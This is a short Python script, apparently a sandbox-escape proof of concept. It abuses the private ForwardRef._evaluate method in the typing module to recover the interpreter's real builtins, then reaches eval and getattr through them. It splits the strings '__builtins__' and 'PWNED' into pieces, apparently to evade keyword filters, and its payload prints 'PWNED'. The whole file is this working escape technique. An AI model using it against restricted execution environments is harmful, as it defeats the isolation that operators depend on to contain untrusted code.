# door: the real eval of a string from the program's own frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

try:
    rb["eval"]("print('PWN' + 'ED')")
except Exception as e:
    print("refused:", type(e).__name__, e)
